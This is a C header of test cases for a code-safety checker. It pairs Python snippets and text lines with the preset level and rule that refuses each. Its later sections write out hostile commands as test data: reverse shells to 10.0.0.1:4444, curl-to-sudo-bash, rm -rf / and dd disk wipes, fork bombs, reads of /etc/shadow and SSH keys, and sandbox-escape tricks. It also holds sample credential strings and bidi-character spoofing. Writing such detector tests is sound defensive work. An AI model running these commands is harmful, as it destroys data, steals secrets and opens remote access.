#ifndef SP_TESTS_PRESET_CASES_H
#define SP_TESTS_PRESET_CASES_H

/* What each preset lets pass and refuses. Every preset refuses what those before it refuse, so that one level says it. */

enum preset_level { MINIMAL, DEVELOPMENT, PRODUCTION, STRICT, NEVER };

struct preset_case {
    const char *language;
    enum preset_level from; /* the first preset that refuses it */
    const char *rule,
        *strict_rule; /* one that blocks it, and one that does in strict; NULL: strict alone refuses it, or none */
    const char *code;
};

static const struct preset_case preset_cases[] = {
    /* Programs that compute: every preset lets them pass. */
    {"python", NEVER, NULL, NULL, "print('Hello')"},
    {"python", NEVER, NULL, NULL, "# import os\n'import os in string'\n"},
    {"python", NEVER, NULL, NULL,
        "import json, sys\n"
        "rows = json.load(sys.stdin)\n"
        "for row in rows:\n"
        "    row['total'] = sum(row.get('items', []))\n"
        "json.dump(rows, sys.stdout, indent=2)\n"},
    {"python", NEVER, NULL, NULL,
        "import math\n"
        "from fractions import Fraction\n"
        "from statistics import mean, stdev\n"
        "print(mean([math.sqrt(x) for x in range(10)]), stdev([1, 2, 4]), Fraction(3, 4))\n"},
    {"python", NEVER, NULL, NULL,
        "from dataclasses import dataclass, field, asdict\n"
        "@dataclass(order=True)\n"
        "class Point:\n"
        "    x: float = 0.0\n"
        "    tags: list = field(default_factory=list)\n"
        "    def __repr__(self):\n"
        "        return f'{self.__class__.__name__}({self.x})'\n"
        "print(asdict(Point(1.0)))\n"},
    {"python", NEVER, NULL, NULL,
        "import csv, io, collections\n"
        "text = 'name,age\\nann,3\\nbob,4\\n'\n"
        "by = collections.defaultdict(list)\n"
        "for row in csv.DictReader(io.StringIO(text)):\n"
        "    by[row['name']].append(int(row['age']))\n"
        "print(dict(by))\n"},
    {"python", NEVER, NULL, NULL,
        "import argparse\n"
        "parser = argparse.ArgumentParser(description='adds')\n"
        "parser.add_argument('n', type=int, nargs='+')\n"
        "parser.add_argument('--verbose', '-v', action='store_true')\n"
        "options = parser.parse_args()\n"
        "print(sum(options.n))\n"},
    {"python", NEVER, NULL, NULL,
        "import re\n"
        "pattern = re.compile(r'(\\d+)-(\\w+)')\n"
        "print([m.groups() for m in pattern.finditer('1-a 2-b')], re.sub(r'\\s+', ' ', 'a  b'))\n"},
    {"python", NEVER, NULL, NULL, "from re import compile\nprint(compile('a+').match('aa'))\n"},
    {"python", NEVER, NULL, NULL,
        "import datetime, zoneinfo, calendar, time\n"
        "now = datetime.datetime.now(zoneinfo.ZoneInfo('Europe/Zurich'))\n"
        "print(now.isoformat(), calendar.monthrange(2024, 2), time.perf_counter())\n"},
    {"python", NEVER, NULL, NULL,
        "import hashlib, hmac, base64, secrets\n"
        "print(hashlib.sha256(b'x').hexdigest(), base64.b64encode(b'x'), secrets.token_hex(4))\n"
        "print(hmac.compare_digest('a', 'b'))\n"},
    {"python", NEVER, NULL, NULL,
        "import functools, itertools, operator, heapq\n"
        "@functools.lru_cache(maxsize=None)\n"
        "def fib(n):\n"
        "    return n if n < 2 else fib(n - 1) + fib(n - 2)\n"
        "print(functools.reduce(operator.mul, range(1, 6)), list(itertools.islice(itertools.count(), 3)), "
        "heapq.nsmallest(2, [3, 1, 2]), fib(20))\n"},
    {"python", NEVER, NULL, NULL, "import ast\nprint(ast.literal_eval(\"{'a': [1, 2]}\"))\n"},
    {"python", NEVER, NULL, NULL,
        "class Model:\n"
        "    def eval(self):\n"
        "        return self\n"
        "    def compile(self, loss):\n"
        "        return loss\n"
        "    def open(self):\n"
        "        return 1\n"
        "m = Model()\n"
        "m.eval()\n"
        "m.compile('mse')\n"
        "m.open()\n"},
    {"python", NEVER, NULL, NULL,
        "import enum, abc, typing, random, string, textwrap, contextlib\n"
        "class Colour(enum.Enum):\n"
        "    RED = 1\n"
        "print(getattr(Colour, 'RED'), getattr(Colour, 'BLUE', None), hasattr(Colour, 'x'), "
        "random.choice(string.ascii_letters))\n"},
    {"python", NEVER, NULL, NULL,
        "import sys\n"
        "print(sys.argv[1:], sys.maxsize, sys.version_info >= (3, 8), file=sys.stderr)\n"
        "sys.exit(0)\n"},
    {"python", NEVER, NULL, NULL,
        "try:\n"
        "    1 / 0\n"
        "except ZeroDivisionError as error:\n"
        "    print('failed:', error)\n"
        "finally:\n"
        "    print('done')\n"},
    {"python", NEVER, NULL, NULL,
        "import heapq\n"
        "graph = {'a': {'b': 1}, 'b': {}}\n"
        "queue = [(0, 'a')]\n"
        "while queue:\n"
        "    cost, node = heapq.heappop(queue)\n"
        "    for to, weight in graph[node].items():\n"
        "        heapq.heappush(queue, (cost + weight, to))\n"},
    {"python", NEVER, NULL, NULL, "name = input('name? ')\nprint('hello', name.title())\n"},
    {"python", NEVER, NULL, NULL, "print('never run rm -rf / or :(){ :|:& };:')\n# os.system('rm -rf /')\n"},
    {"python", NEVER, NULL, NULL,
        "import dataclasses\n"
        "@dataclasses.dataclass\n"
        "class Bar:\n"
        "    open: float\n"
        "    close: float\n"
        "print(Bar(open=1, close=2).open)\n"},
    {"python", NEVER, NULL, NULL, "import operator\nprint(sorted([1j, 2j], key=operator.attrgetter('imag')))\n"},
    /* Ordinary programs with libraries, files and threads: strict alone refuses them. */
    {"python", STRICT, NULL, "allowed_modules",
        "import pandas as pd\n"
        "import matplotlib\n"
        "matplotlib.use('Agg')\n"
        "import matplotlib.pyplot as plt\n"
        "import numpy as np\n"
        "df = pd.read_csv('data.csv')\n"
        "df = df.rename(columns={'a': 'b'}).groupby('b').agg({'price': 'mean'}).reset_index()\n"
        "df.query('price > 3').to_csv('out.csv', index=False)\n"
        "df.plot(x='b', y='price')\n"
        "plt.title('prices')\n"
        "plt.savefig('/work/prices.png')\n"
        "print(np.linalg.norm(df['price'].to_numpy()), df.eval('price * 2').head())\n"},
    {"python", STRICT, NULL, "allowed_modules",
        "import numpy as np\n"
        "from sklearn.linear_model import LinearRegression\n"
        "from sklearn.model_selection import train_test_split\n"
        "X = np.random.default_rng(0).normal(size=(100, 3))\n"
        "y = X @ [1, 2, 3]\n"
        "a, b, c, d = train_test_split(X, y)\n"
        "print(LinearRegression().fit(a, c).score(b, d))\n"
        "np.save('x.npy', X)\n"
        "print(np.load('x.npy').shape)\n"},
    {"python", STRICT, NULL, "allowed_modules",
        "import torch\n"
        "model = torch.nn.Linear(2, 1)\n"
        "model.eval()\n"
        "model.load_state_dict(torch.load('w.pt', weights_only=True))\n"},
    {"python", STRICT, NULL, "allowed_modules",
        "from pathlib import Path\n"
        "for path in sorted(Path('.').glob('**/*.txt')):\n"
        "    print(path.name, len(path.read_text().split()))\n"
        "Path('out').mkdir(exist_ok=True)\n"
        "Path('out/a.txt').write_text('x')\n"},
    {"python", STRICT, NULL, "opens-file",
        "import json\n"
        "with open('data.json') as file:\n"
        "    data = json.load(file)\n"
        "with open('out.json', 'w') as file:\n"
        "    json.dump(data, file)\n"},
    {"python", STRICT, NULL, "opens-file",
        "with open('/work/out.txt', 'a') as f, open('/tmp/x', mode='w') as g:\n"
        "    print('x', file=f)\n"},
    {"python", STRICT, NULL, "allowed_modules",
        "import logging\n"
        "import logging.handlers\n"
        "logging.basicConfig(level=logging.INFO)\n"
        "log = logging.getLogger(__name__)\n"
        "log.addHandler(logging.handlers.RotatingFileHandler('x.log'))\n"
        "log.info('hello %s', 'x')\n"},
    {"python", STRICT, NULL, "allowed_modules",
        "import threading, queue\n"
        "from concurrent.futures import ThreadPoolExecutor\n"
        "with ThreadPoolExecutor(max_workers=4) as pool:\n"
        "    print(list(pool.map(len, ['a', 'bb'])))\n"},
    {"python", STRICT, NULL, "allowed_modules",
        "import sqlite3\n"
        "with sqlite3.connect(':memory:') as db:\n"
        "    db.execute('create table t (x)')\n"
        "    db.executemany('insert into t values (?)', [(1,), (2,)])\n"
        "    print(db.execute('select sum(x) from t').fetchone())\n"},
    {"python", STRICT, NULL, "allowed_modules",
        "import unittest\n"
        "class Adds(unittest.TestCase):\n"
        "    def test_add(self):\n"
        "        self.assertEqual(1 + 1, 2)\n"
        "unittest.main()\n"},
    {"python", STRICT, NULL, "allowed_modules",
        "import yaml\n"
        "print(yaml.safe_load('a: 1'), yaml.load(open('x.yaml'), Loader=yaml.SafeLoader), yaml.dump({}))\n"},
    {"python", STRICT, NULL, "allowed_modules",
        "from urllib.parse import urlparse, quote\n"
        "import urllib.parse\n"
        "print(urlparse('https://example.com/a?b=c').netloc, urllib.parse.urlencode({'a': 1}))\n"
        "from http import HTTPStatus\n"
        "print(HTTPStatus.OK)\n"},
    {"python", STRICT, NULL, "allowed_modules",
        "import shutil, tempfile, glob, zipfile, gzip\n"
        "with tempfile.TemporaryDirectory() as folder:\n"
        "    with zipfile.ZipFile('a.zip') as archive:\n"
        "        print(archive.namelist())\n"
        "print(shutil.which('x'), shutil.get_terminal_size())\n"},
    {"python", STRICT, NULL, "allowed_modules",
        "import inspect, types, copy, traceback, warnings\n"
        "warnings.filterwarnings('ignore')\n"
        "print(inspect.signature(len), types.SimpleNamespace(a=1))\n"},
    {"python", STRICT, NULL, "allowed_modules", "import osmium, socketless, subprocess32x, requests_toolbelt_x\n"},
    {"python", STRICT, NULL, "attribute-by-name",
        "class Config:\n"
        "    pass\n"
        "for key, value in {'a': 1}.items():\n"
        "    setattr(Config, key, value)\n"
        "print({k: getattr(Config, k) for k in ('a',)})\n"},
    {"python", STRICT, NULL, "internals", "print(sorted(globals()))\n"},
    {"python", STRICT, NULL, "written-password", "password = 'correct-horse'\n"},
    {"python", STRICT, NULL, "internals",
        "class Base:\n    pass\nprint([c.__name__ for c in Base.__class__.__mro__])\n"},
    {"python", STRICT, NULL, "allowed_modules", "import uuid, types\n"},
    {"python", STRICT, NULL, "allowed_modules", "import helper\n"},
    {"python", STRICT, NULL, "attribute-by-name", "def f(o, n):\n    return getattr(o, n)\n"},
    {"python", STRICT, NULL, "attribute-by-name", "getattr(object, '_' + 'x', None)\n"},
    {"python", STRICT, NULL, "opens-file", "print(open('x').read())\n"},
    {"python", STRICT, NULL, "opens-file", "import io\nio.open('x')\n"},
    {"python", STRICT, NULL, "opens-file", "import builtins as b\nb.open('x')\n"},
    {"python", STRICT, NULL, "opens-file",
        "import argparse\nargparse.ArgumentParser().add_argument('f', type=argparse.FileType('r'))\n"},
    {"python", STRICT, NULL, "opens-file", "print(list(map(open, ['x'])))\n"},
    {"python", STRICT, NULL, "opens-file", "{'a': open}['a']('x')\n"},
    {"python", STRICT, NULL, "opens-file", "import sys\nprint(sys.stdout.buffer.raw.__class__('x').read())\n"},
    {"python", STRICT, NULL, "attribute-by-name",
        "import functools\nprint(functools.reduce(getattr, ['a', 'b'], object))\n"},
    {"python", STRICT, NULL, "attribute-by-name", "import operator\nprint(operator.attrgetter(input())(object))\n"},
    {"python", STRICT, NULL, "internals", "x = [].__class__.__bases__\n"},
    /* What development lets run, and reports or does not. */
    {"python", PRODUCTION, "restricted_modules[os]", "allowed_modules",
        "import os\nprint(os.path.join('a', 'b'), os.environ.get('HOME'), os.listdir('.'))\n"},
    {"python", PRODUCTION, "restricted_modules[asyncio]", "allowed_modules",
        "import asyncio\n"
        "async def main():\n"
        "    await asyncio.gather(asyncio.sleep(0), asyncio.sleep(0))\n"
        "asyncio.run(main())\n"},
    {"python", PRODUCTION, "restricted_modules[requests]", "allowed_modules",
        "import requests as r\nprint(r.get('https://example.com').json())\n"},
    {"python", PRODUCTION, "restricted_modules[socket]", "allowed_modules",
        "from socket import socket as s\ns().connect(('example.com', 80))\n"},
    {"python", PRODUCTION, "restricted_modules[socket]", "allowed_modules",
        "getattr(__import__('so' + 'cket'), 'socket')()\n"},
    {"python", PRODUCTION, "restricted_modules[urllib.request]", "allowed_modules",
        "from urllib import request as web\nweb.urlopen('https://example.com')\n"},
    {"python", PRODUCTION, "network-by-package", "allowed_modules",
        "import pandas, urllib\nurllib.request.urlopen('https://example.com')\n"},
    {"python", PRODUCTION, "restricted_modules[http.client]", "allowed_modules",
        "import http.client\nhttp.client.HTTPSConnection('example.com')\n"},
    {"python", PRODUCTION, "data-by-url", "allowed_modules",
        "import pandas as pd\nprint(pd.read_csv('https://example.com/data.csv'))\n"},
    {"python", PRODUCTION, "asyncio-network", "allowed_modules",
        "from asyncio import open_connection as o\n"
        "async def f():\n"
        "    return await o('example.com', 80)\n"},
    {"python", PRODUCTION, "restricted_modules[pickle]", "allowed_modules", "import pickle\npickle.loads(data)\n"},
    {"python", PRODUCTION, "restricted_modules[pickle]", "allowed_modules",
        "from pickle import loads as parse\nparse(data)\n"},
    {"python", PRODUCTION, "restricted_modules[pickle]", "allowed_modules", "import _pickle as p\np.loads(data)\n"},
    {"python", PRODUCTION, "restricted_modules[marshal]", "allowed_modules",
        "m = __import__('marshal')\nm.loads(data)\n"},
    {"python", PRODUCTION, "restricted_modules[shelve]", "allowed_modules", "import shelve\nshelve.open('x')\n"},
    {"python", PRODUCTION, "unsafe-yaml", "allowed_modules", "import yaml\nyaml.load(text)\n"},
    {"python", PRODUCTION, "unsafe-yaml", "allowed_modules", "import yaml as y\ny.load(text, Loader=y.UnsafeLoader)\n"},
    {"python", PRODUCTION, "unsafe-yaml", "allowed_modules", "from yaml import unsafe_load as parse\nparse(text)\n"},
    {"python", PRODUCTION, "unsafe-load", "allowed_modules", "import pandas as pd\npd.read_pickle('x.pkl')\n"},
    {"python", PRODUCTION, "unsafe-load", "allowed_modules",
        "import numpy as np\nnp.load('x.npy', allow_pickle=True)\n"},
    {"python", PRODUCTION, "unsafe-load", "allowed_modules", "import torch\ntorch.load('w.pt')\n"},
    {"python", PRODUCTION, "restricted_modules[importlib]", "allowed_modules",
        "import importlib\nimportlib.import_module('json')\n"},
    {"python", PRODUCTION, "dynamic", "dynamic", "exec(input())\n"},
    {"python", PRODUCTION, "dynamic", "dynamic", "__import__(input())\n"},
    {"python", PRODUCTION, "dynamic", "dynamic", "import math\ngetattr(math, input())()\n"},
    {"python", PRODUCTION, "dynamic", "dynamic", "print.__self__.__dict__[input()]\n"},
    {"python", PRODUCTION, "dynamic", "dynamic", "(lambda: 0).__globals__['x']\n"},
    {"python", PRODUCTION, "evaluates", "evaluates", "print(eval('1 + 1'))\n"},
    {"python", PRODUCTION, "evaluates", "evaluates", "e = eval\ne('1 + 1')\n"},
    {"python", PRODUCTION, "evaluates", "evaluates", "import builtins\nbuiltins.exec('x = 1')\n"},
    {"python", PRODUCTION, "evaluates", "evaluates", "exec(compile('x = 1', 'a', 'exec'))\n"},
    {"python", PRODUCTION, "evaluates", "evaluates", "c = compile('print(1)', 'a', mode='exec')\n"},
    {"python", PRODUCTION, "import-call", "import-call", "__import__('json').dumps({})\n"},
    {"python", PRODUCTION, "frames", "frames", "import sys\nsys._getframe(1).f_locals\n"},
    {"python", PRODUCTION, "frames", "frames", "from sys import _getframe as f\nf(1)\n"},
    {"python", PRODUCTION, "frames", "allowed_modules", "import inspect as i\ni.currentframe()\n"},
    {"python", PRODUCTION, "restricted_modules[gc]", "allowed_modules", "import gc\ngc.get_objects()\n"},
    {"python", PRODUCTION, "code-objects", "code-objects",
        "def f():\n    return 1\nf.__code__ = f.__code__.replace(co_consts=(2,))\n"},
    {"python", PRODUCTION, "import-hooks", "import-hooks", "import sys\nsys.meta_path.insert(0, object())\n"},
    {"python", PRODUCTION, "restricted_modules[multiprocessing]", "allowed_modules",
        "from multiprocessing import Pool\nwith Pool(4) as pool:\n    print(pool.map(len, ['a']))\n"},
    {"python", PRODUCTION, "process-pool", "allowed_modules",
        "from concurrent.futures import ProcessPoolExecutor as P\nP(4).submit(len, 'a')\n"},
    {"python", PRODUCTION, "write-outside", "opens-file", "with open('/etc/cron.d/x', 'w') as f:\n    f.write('x')\n"},
    {"python", PRODUCTION, "write-outside", "opens-file", "open('../../x', 'wb').write(b'x')\n"},
    {"python", PRODUCTION, "write-outside", "opens-file", "o = open\no('/home/' + 'me/.bashrc', mode='a')\n"},
    {"python", PRODUCTION, "write-outside", "allowed_modules",
        "from pathlib import Path as P\nP('/etc/passwd').write_text('x')\n"},
    {"python", PRODUCTION, "file-removal", "allowed_modules", "import os as o\no.remove('x')\n"},
    {"python", PRODUCTION, "tree-change", "allowed_modules", "import shutil as s\ns.rmtree('build')\n"},
    {"python", PRODUCTION, "tree-change", "allowed_modules", "from shutil import copytree\ncopytree('a', 'b')\n"},
    {"python", PRODUCTION, "module-through-another", "allowed_modules",
        "import pandas as pd\npd.io.common.os.getcwd()\n"},
    {"python", PRODUCTION, "restricted_modules[tkinter]", "allowed_modules",
        "import tkinter\ntkinter.Tcl().eval('exec ls')\n"},
    {"python", PRODUCTION, "restricted_modules[webbrowser]", "allowed_modules",
        "import webbrowser\nwebbrowser.open('https://example.com')\n"},
    {"python", PRODUCTION, "restricted_modules[psutil]", "allowed_modules",
        "import psutil\nprint(psutil.cpu_percent())\n"},
    {"python", PRODUCTION, "private-key", "private-key", "KEY = '''-----BEGIN RSA PRIVATE KEY-----\nMIIE'''\n"},
    {"python", PRODUCTION, "access-key", "access-key", "# AKIAIOSFODNN7EXAMPLE\n"},
    {"python", PRODUCTION, "url-password", "url-password", "url = 'postgresql://user:secret@db/x'\n"},
    {"python", PRODUCTION, "unicode", "unicode", "access = 'user\u202e \u2066# admin\u2069 \u2066'\n"},
    {"python", PRODUCTION, "tree-change", "allowed_modules",
        "import shutil\n"
        "shutil.rmtree('/tmp/build')\n"
        "shutil.rmtree('/work/out')\n"
        "shutil.rmtree(folder)\n"},
    {"python", PRODUCTION, "restricted_modules[os]", "allowed_modules", "import random\nrandom._os\n"},
    {"python", PRODUCTION, "dynamic", "dynamic", "import string\nstring.Formatter().get_field('0.x', ([],), {})\n"},
    /* Programs, processes, native code behind a library: what minimal lets run. */
    {"python", DEVELOPMENT, "os-command", "allowed_modules", "import os\nos.system('ls')\n"},
    {"python", DEVELOPMENT, "os-command", "allowed_modules", "from os import system as s\ns('ls')\n"},
    {"python", DEVELOPMENT, "os-command", "allowed_modules", "import os as o\ngetattr(o, 'sys' + 'tem')('ls')\n"},
    {"python", DEVELOPMENT, "os-command", "allowed_modules", "__import__('o' + 's').popen('ls')\n"},
    {"python", DEVELOPMENT, "os-command", "allowed_modules", "import posix\nposix.system('ls')\n"},
    {"python", DEVELOPMENT, "os-command", "allowed_modules", "from os import *\nexecv('/bin/ls', ['ls'])\n"},
    {"python", DEVELOPMENT, "os-command", "allowed_modules",
        "import shutil\nshutil.os.posix_spawn('/bin/ls', ['ls'], {})\n"},
    {"python", DEVELOPMENT, "os-command", "allowed_modules", "import sys\nsys.modules['os'].spawnlp(0, 'ls')\n"},
    {"python", DEVELOPMENT, "os-command", "allowed_modules", "exec('import os; os.system(\"ls\")')\n"},
    {"python", DEVELOPMENT, "os-command", "allowed_modules", "import os\nlist(map(os.system, ['ls']))\n"},
    {"python", DEVELOPMENT, "os-command", "allowed_modules", "import pandas\npandas.io.common.os.system('ls')\n"},
    {"python", DEVELOPMENT, "restricted_modules[subprocess]", "allowed_modules",
        "import subprocess\nsubprocess.run(['ls'])\n"},
    {"python", DEVELOPMENT, "restricted_modules[subprocess]", "allowed_modules", "import sys, subprocess as s\n"},
    {"python", DEVELOPMENT, "restricted_modules[subprocess]", "allowed_modules",
        "import importlib\nimportlib.import_module('sub' + 'process')\n"},
    {"python", DEVELOPMENT, "restricted_modules[subprocess]", "allowed_modules",
        "import asyncio\nasyncio.subprocess.subprocess.run(['ls'])\n"},
    {"python", DEVELOPMENT, "restricted_modules[subprocess]", "allowed_modules",
        "\uff49\uff4d\uff50 = __import__\n\uff49\uff4d\uff50('subprocess')\n"},
    {"python", DEVELOPMENT, "asyncio-command", "allowed_modules",
        "import asyncio\nasyncio.create_subprocess_shell('ls')\n"},
    {"python", DEVELOPMENT, "asyncio-command", "asyncio-command",
        "async def f(loop):\n    await loop.subprocess_exec(object, 'ls')\n"},
    {"python", DEVELOPMENT, "restricted_modules[pty]", "allowed_modules", "import pty\npty.spawn('ls')\n"},
    {"python", DEVELOPMENT, "process-control", "allowed_modules", "import os\nos.kill(1, 9)\n"},
    {"python", DEVELOPMENT, "process-control", "allowed_modules", "from os import fork as f\nif f() == 0:\n    pass\n"},
    {"python", DEVELOPMENT, "process-control", "allowed_modules", "import signal as s\ns.pthread_kill(1, 9)\n"},
    {"python", DEVELOPMENT, "other-command", "allowed_modules", "import pydoc\npydoc.pipepager('x', 'sh')\n"},
    {"python", DEVELOPMENT, "other-command", "allowed_modules", "from imaplib import IMAP4_stream as I\nI('sh')\n"},
    {"python", DEVELOPMENT, "sqlite-extension", "allowed_modules",
        "import sqlite3\nsqlite3.connect(':memory:').enable_load_extension(True)\n"},
    {"python", DEVELOPMENT, "restricted_modules[boto3]", "allowed_modules", "import boto3\n"},
    {"python", DEVELOPMENT, "restricted_modules[google.cloud]", "allowed_modules", "from google import cloud\n"},
    {"python", DEVELOPMENT, "restricted_modules[docker]", "allowed_modules", "import docker\ndocker.from_env()\n"},
    {"python", DEVELOPMENT, "restricted_modules[_posixsubprocess]", "allowed_modules", "import _posixsubprocess\n"},
    {"python", DEVELOPMENT, "restricted_modules[subprocess]", "allowed_modules",
        "import subprocess\n"
        "subprocess.run(['rm', '-rf', 'build'])\n"
        "subprocess.run(['rm', '-rf', '/tmp/x'])\n"
        "subprocess.run('git commit -m \"mount\"', shell=True)\n"},
    {"python", DEVELOPMENT, "os-command", "allowed_modules",
        "import os\n"
        "os.system('curl -O https://example.com/x.tar.gz')\n"
        "os.system('pip install requests | tail -1')\n"},
    {"python", DEVELOPMENT, "os-command", "allowed_modules", "import random as r\nr._os.system('ls')\n"},
    /* Destruction, native code, ways out: what no preset lets run. */
    {"python", MINIMAL, "restricted_modules[ctypes]", "allowed_modules",
        "import ctypes\nctypes.CDLL(None).system(b'ls')\n"},
    {"python", MINIMAL, "restricted_modules[ctypes]", "allowed_modules", "from ctypes import util\n"},
    {"python", MINIMAL, "restricted_modules[ctypes]", "allowed_modules", "import _ctypes\n_ctypes.dlopen('x', 1)\n"},
    {"python", MINIMAL, "restricted_modules[ctypes]", "allowed_modules",
        "c = __import__('importlib').import_module('cty' + 'pes')\n"},
    {"python", MINIMAL, "restricted_modules[cffi]", "allowed_modules", "from cffi import FFI\n"},
    {"python", MINIMAL, "wipes-tree", "allowed_modules", "import shutil\nshutil.rmtree('/')\n"},
    {"python", MINIMAL, "wipes-tree", "allowed_modules",
        "from shutil import rmtree as r\nr('/home/me', ignore_errors=True)\n"},
    {"python", MINIMAL, "wipes-tree", "allowed_modules", "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"},
    {"python", MINIMAL, "destructive-command", "allowed_modules", "import os\nos.system('rm -rf /')\n"},
    {"python", MINIMAL, "destructive-command", "allowed_modules",
        "import os as o\ncmd = 'rm -rf ' + '/*'\no.system(cmd)\n"},
    {"python", MINIMAL, "destructive-command", "allowed_modules",
        "import subprocess\nsubprocess.run(['rm', '-r', '-f', '/home'])\n"},
    {"python", MINIMAL, "destructive-command", "allowed_modules",
        "from subprocess import call as c\nc('dd if=/dev/zero of=/dev/sda', shell=True)\n"},
    {"python", MINIMAL, "destructive-command", "allowed_modules", "import os\nos.system(':(){ :|:& };:')\n"},
    {"python", MINIMAL, "escaping-command", "allowed_modules",
        "import subprocess as s\ns.Popen(['nsenter', '-t', '1', '-m', 'sh'])\n"},
    {"python", MINIMAL, "escaping-command", "allowed_modules",
        "import os\nos.popen('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n"},
    {"python", MINIMAL, "escaping-command", "allowed_modules", "import os\nos.system('nc 10.0.0.1 4444 -e /bin/sh')\n"},
    {"python", MINIMAL, "runs-download", "allowed_modules",
        "import os\nos.system('curl -s https://example.com/x | sudo bash')\n"},
    {"python", MINIMAL, "fork-bomb", "allowed_modules", "import os\nwhile True: os.fork()\n"},
    {"python", MINIMAL, "fork-bomb", "allowed_modules", "from os import fork as f\nwhile 1:\n    f()\n"},
    {"python", MINIMAL, "reverse-shell", "allowed_modules",
        "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n"},
    {"python", MINIMAL, "reverse-shell", "allowed_modules", "import pty\npty.spawn('/bin/bash')\n"},
    {"python", MINIMAL, "host-paths", "host-paths", "open('/proc/self/mem', 'rb')\n"},
    {"python", MINIMAL, "host-paths", "host-paths", "p = '/var/run/' + 'docker.sock'\nprint(p)\n"},
    {"python", MINIMAL, "host-paths", "host-paths", "print(open('/etc/shadow').read())\n"},
    {"python", MINIMAL, "host-paths", "allowed_modules",
        "import pathlib\nprint((pathlib.Path.home() / '.ssh/id_rsa').read_text())\n"},
    {"python", MINIMAL, "metadata-service", "metadata-service", "u = 'http://169.254.' '169.254/latest/meta-data/'\n"},
    {"python", MINIMAL, "changes-identity", "allowed_modules", "import os\nos.setuid(0)\n"},
    {"python", MINIMAL, "changes-identity", "allowed_modules", "import os as o\no.chroot('/x')\n"},
    {"python", MINIMAL, "class-walk", "class-walk", "().__class__.__base__.__subclasses__()[40]('x')\n"},
    {"python", MINIMAL, "class-walk", "class-walk", "''.__class__.__mro__[1].__subclasses__()\n"},
    /* Texts. */
    {"text", NEVER, NULL, NULL,
        "Dear all,\n"
        "please rm -rf build, then make; see https://example.com:8080/a@b and use curl -O.\n"
        "import os; os.system('ls')\n"},
    {"text", NEVER, NULL, NULL,
        "rm -rf /tmp/x /var/tmp/build\n"
        "rm file\n"
        "rm -f /etc/foo.conf.bak\n"
        "dd if=a of=b\n"
        "cat x > /dev/null\n"
        "mkfs is a command\n"},
    {"text", NEVER, NULL, NULL, "\u540d\u524d: r\u00e9sum\u00e9 \U0001f469\u200d\U0001f4bb \u00e9\n"},
    {"text", MINIMAL, "wipe-in-text", "wipe-in-text", "rm -rf /\n"},
    {"text", MINIMAL, "wipe-in-text", "wipe-in-text", "cd /; sudo rm -r -f --no-preserve-root '/*' && echo done\n"},
    {"text", MINIMAL, "wipe-in-text", "wipe-in-text", "rm -fr ~/\n"},
    {"text", MINIMAL, "wipe-in-text", "wipe-in-text", "rm --recursive --force \"$HOME\"\n"},
    {"text", MINIMAL, "wipe-in-text", "wipe-in-text", "rm -rf /etc /usr\n"},
    {"text", MINIMAL, "disk-in-text", "disk-in-text", "mkfs.ext4 -F /dev/sda1\n"},
    {"text", MINIMAL, "disk-in-text", "disk-in-text", "dd if=/dev/zero of=/dev/nvme0n1 bs=1M\n"},
    {"text", MINIMAL, "disk-in-text", "disk-in-text", "cat image > /dev/sdb\n"},
    {"text", MINIMAL, "shell-bomb-in-text", "shell-bomb-in-text", ":(){ :|:& };:\n"},
    {"text", MINIMAL, "gives-shell-in-text", "gives-shell-in-text", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"},
    {"text", MINIMAL, "gives-shell-in-text", "gives-shell-in-text", "nc -lvp 4444 -e /bin/bash\n"},
    {"text", MINIMAL, "gives-shell-in-text", "gives-shell-in-text", "socat TCP:10.0.0.1:4444 EXEC:/bin/sh\n"},
    {"text", PRODUCTION, "pipe-to-shell", "pipe-to-shell",
        "curl -sSL https://example.com/install.sh | sudo bash -s -- -y\n"},
    {"text", PRODUCTION, "pipe-to-shell", "pipe-to-shell", "bash <(curl -s https://example.com/x)\n"},
    {"text", PRODUCTION, "pipe-to-shell", "pipe-to-shell", "echo cm0gLXJmIC8= | base64 -d | sh\n"},
    {"text", PRODUCTION, "private-key", "private-key", "-----BEGIN OPENSSH PRIVATE KEY-----\n"},
    {"text", PRODUCTION, "access-key", "access-key", "token: ghp_0123456789abcdefghijABCDEFGHIJ012345\n"},
    {"text", PRODUCTION, "url-password", "url-password", "https://user:hunter22@example.com/x.git\n"},
    {"text", STRICT, NULL, "written-password", "password: \"correct-horse\"\n"},
    {"text", PRODUCTION, "unicode", "unicode", "pay to \u202ebob\n"},
};

#endif
